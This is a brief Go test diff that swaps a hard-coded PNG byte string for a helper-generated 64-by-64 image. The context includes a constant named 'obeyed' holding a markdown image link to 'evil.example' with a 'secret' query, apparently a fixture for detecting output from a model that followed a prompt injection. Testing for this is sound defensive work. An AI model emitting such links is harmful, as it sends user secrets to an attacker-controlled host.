@@ -193,7 +193,8 @@ func (w *world) person(from, to string) {
 	delete(w.files, from)
 }
 
-const pixel = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00@\x00\x00\x00@\x08\x00\x00\x00\x00\x8f\x02.\x02"
+// pixel is a whole picture of 64 by 64 pixels.
+var pixel = steptest.Pixel()
 
 const obeyed = "Summary: https://shown.example/a\n\n![x](http://evil.example/?q=secret)\n"
 
